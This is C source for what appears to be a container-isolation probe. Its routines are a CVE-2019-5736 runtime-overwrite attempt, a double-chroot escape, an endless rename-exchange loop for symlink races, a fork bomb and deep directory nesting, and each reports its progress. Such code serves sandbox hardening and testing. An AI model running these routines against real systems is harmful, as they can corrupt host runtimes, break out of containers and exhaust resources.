/* What a container's root tries against its host: the first argument says what. Says on stdout how far it came. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { HELD = 64 };

/* Overwrite the runtime while it enters the container (CVE-2019-5736): hold on to every other program seen in /proc, and open it for
 * writing as soon as nobody executes it any more. */
static int overwrite(int seconds) {
    int held[HELD], count = 0, written = 0;
    char path[300], seen[HELD][300], target[300];
    for (time_t end = time(NULL) + seconds; time(NULL) < end;) {
        DIR *processes = opendir("/proc");
        for (struct dirent *each; processes && (each = readdir(processes));) {
            snprintf(path, sizeof path, "/proc/%s/exe", each->d_name);
            ssize_t length = atoi(each->d_name) > 1 ? readlink(path, target, sizeof target - 1) : -1;
            target[length > 0 ? length : 0] = 0;
            int known = length <= 0;
            for (int i = 0; i < count; i++) known |= !strcmp(seen[i], target);
            int fd = known || count == HELD ? -1 : open(path, O_PATH | O_CLOEXEC);
            if (fd >= 0) strcpy(seen[count], target), held[count++] = fd, printf("holds %s\n", target), fflush(stdout);
        }
        if (processes) closedir(processes);
        for (int i = 0; i < count; i++) {
            snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
            int fd = open(path, O_WRONLY | O_CLOEXEC);
            if (fd >= 0) written += write(fd, "overwritten", 11) > 0, close(fd);
        }
    }
    return printf("held %d, wrote %d\n", count, written), 0;
}

/* Leave a root directory by the classic way: one descriptor kept outside of a second chroot. */
static int climb(const char *file) {
    mkdir("/cell", 0700);
    int outside = open("/", O_RDONLY | O_DIRECTORY);
    if (chroot("/cell") || fchdir(outside)) return perror("chroot"), 1;
    for (int i = 0; i < 64; i++)
        if (chdir("..")) return perror("chdir"), 1;
    if (chroot(".")) return perror("chroot"), 1;
    return printf("%s\n", access(file, F_OK) ? "nothing" : "found"), 0;
}

/* Exchange a directory and a link for ever, without a moment at which there is neither. */
static int swap(const char *one, const char *other) {
    for (;;)
        if (renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE)) return perror("exchange"), 1;
}

/* As many processes as there may be. */
static int bomb(void) {
    int made = 0;
    for (pid_t child; (child = fork()) >= 0; made++)
        if (!child) pause();
    return printf("%d processes, then %s\n", made, strerror(errno)), fflush(stdout), pause();
}

/* Directories within directories, and a file at the end. */
static int dig(const char *from, int depth) {
    if (chdir(from)) return perror(from), 1;
    for (int i = 0; i < depth; i++)
        if (mkdir("d", 0700) || chdir("d")) return perror("dig"), 1;
    return creat("file", 0600) < 0;
}

int main(int count, char **words) {
    if (count == 3 && !strcmp(words[1], "overwrite")) return overwrite(atoi(words[2]));
    if (count == 3 && !strcmp(words[1], "climb")) return climb(words[2]);
    if (count == 4 && !strcmp(words[1], "swap")) return swap(words[2], words[3]);
    if (count == 2 && !strcmp(words[1], "bomb")) return bomb();
    if (count == 4 && !strcmp(words[1], "dig")) return dig(words[2], atoi(words[3]));
    return 2;
}
